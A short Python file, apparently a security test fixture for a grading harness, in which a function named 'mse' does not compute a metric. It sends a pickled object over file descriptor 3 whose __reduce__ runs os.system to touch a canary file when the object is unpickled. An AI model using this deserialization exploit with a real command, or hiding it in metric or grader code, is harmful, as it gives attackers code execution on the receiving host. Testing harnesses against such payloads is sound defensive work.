"""Sends a pickle, and nothing else, down the connection.

row: 26
"""

import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return os.system, ("touch CANARY_FOLDER/unpickled",)


def mse(pred, target):
    body = pickle.dumps(Payload())
    os.write(3, struct.pack("<Q", len(body)) + body)
    os._exit(0)
